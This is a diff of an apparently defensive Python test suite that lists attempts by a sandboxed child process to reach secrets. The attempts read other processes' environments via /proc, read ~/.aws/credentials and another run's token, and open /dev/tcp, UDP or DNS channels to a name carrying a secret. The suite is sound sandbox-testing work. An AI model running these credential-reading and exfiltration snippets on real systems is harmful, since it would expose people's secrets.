@@ -2,18 +2,20 @@
 
 from __future__ import annotations
 
-from tests.hostile.attack import Attack, Attempt
+from typing import TYPE_CHECKING
 
-CREDENTIALS = {"AWS_SECRET_ACCESS_KEY": "of-the-caller", "GITHUB_TOKEN": "of-ci", "PULUMI_ACCESS_TOKEN": "of-pulumi"}
+from tests.hostile.attack import STOLEN, Attack, Attempt
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
+
 _ENVIRONMENT = "the child's environment is an allow-list"
 _FILES = "the child sees the repository, the interpreter and its packages, and can write in a folder of the run alone"
 _NETWORK = "the child has a network namespace without interfaces, and connections are refused inside the process, too"
 _PROCESSES = "the child has a process namespace of its own, in which nobody else is"
-PORT = "PORT"
-"""Stands in a program for the port of a listener of the test."""
 
 
-def _saw(wanted: str) -> object:
+def _saw(wanted: object) -> Callable[[Attempt], None]:
     def proof(found: Attempt) -> None:
         assert found.input("seen", "told") == wanted
 
@@ -22,17 +24,22 @@ def _saw(wanted: str) -> object:
 
 def _saw_no_credentials(found: Attempt) -> None:
     told = found.input("seen", "told")
-    assert not [value for value in CREDENTIALS.values() if value in told]
+    assert STOLEN not in told
     assert "PATH" in told
 
 
 def _saw_no_secret(found: Attempt) -> None:
-    assert "of-the-caller" not in found.input("seen", "told")
+    assert STOLEN not in found.input("seen", "told")
 
 
 def _wrote_nothing_outside(found: Attempt) -> None:
     assert not (found.around / "outside").exists()
     assert not (found.root / "outside").exists()
+
+
+def _has_no_hash(found: Attempt) -> None:
+    asset = found.input("asset", "told")
+    assert "hash" not in asset
 
 
 def reach(name: str, tries: str, held_by: str, what: str, **more: object) -> Attack:
@@ -50,14 +57,6 @@ ATTACKS = (
         proof=_saw_no_credentials,
     ),
     reach(
-        "environment-of-the-parent",
-        "reads the variables of the checker's process from /proc",
-        _PROCESSES,
-        'told = tried(lambda: Path(f"/proc/{os.getppid()}/environ").read_bytes().decode())',
-        exit_code=0,
-        proof=_saw_no_secret,
-    ),
-    reach(
         "environments-of-all",
         "reads the variables of every process that it finds",
         _PROCESSES,
@@ -70,6 +69,14 @@ ATTACKS = (
         "reads a credentials file in the caller's home folder",
         _FILES,
         'told = tried(lambda: (Path(__file__).parents[1] / "home/.aws/credentials").read_text())',
+        exit_code=0,
+        proof=_saw_no_secret,
+    ),
+    reach(
+        "run-of-another-program",
+        "reads the address and the token of another program's engine in the folder of that run",
+        _FILES,
+        'told = "".join(tried(one.read_text) for one in PRIVATE.parent.glob("neigh*/*"))',
         exit_code=0,
         proof=_saw_no_secret,
     ),
@@ -91,7 +98,7 @@ told = tried((PRIVATE / "link").read_text)""",
 Thing("asset", "acme:net:Thing", told=pulumi.FileAsset(str(Path(__file__).parents[1] / "home/.aws/credentials")))
 """,
         exit_code=0,
-        proof=lambda found: _has_no_hash(found),
+        proof=_has_no_hash,
     ),
     reach(
         "writes-outside",
@@ -113,7 +120,7 @@ Thing("asset", "acme:net:Thing", told=pulumi.FileAsset(str(Path(__file__).parent
         "tcp",
         "connects to a port of this machine",
         _NETWORK,
-        'socket.create_connection(("127.0.0.1", PORT))\n',
+        'socket.socket().connect(("127.0.0.1", PORT))\n',
         "opens a connection to 127.0.0.1",
     ),
     reach(
@@ -144,7 +151,13 @@ told = tried(lambda: subprocess.run(["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/P
 told = tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)))""",
         exit_code=0,
     ),
-    Attack("dns", "looks up a name that has a secret in it", _NETWORK, 'socket.getaddrinfo("secret.example.com", 443)\n', "looks up the address of secret.example.com"),
+    Attack(
+        "dns",
+        "looks up a name that has a secret in it",
+        _NETWORK,
+        'socket.getaddrinfo("secret.example.com", 443)\n',
+        "looks up the address of secret.example.com",
+    ),
     Attack(
         "node-tcp",
         "connects from Node",
@@ -172,8 +185,3 @@ told = tried(lambda: [os.kill(int(one.name), 0) for one in Path("/proc").glob("[
         proof=_saw("[]"),
     ),
 )
-
-
-def _has_no_hash(found: Attempt) -> None:
-    asset = found.input("asset", "told")
-    assert "hash" not in asset
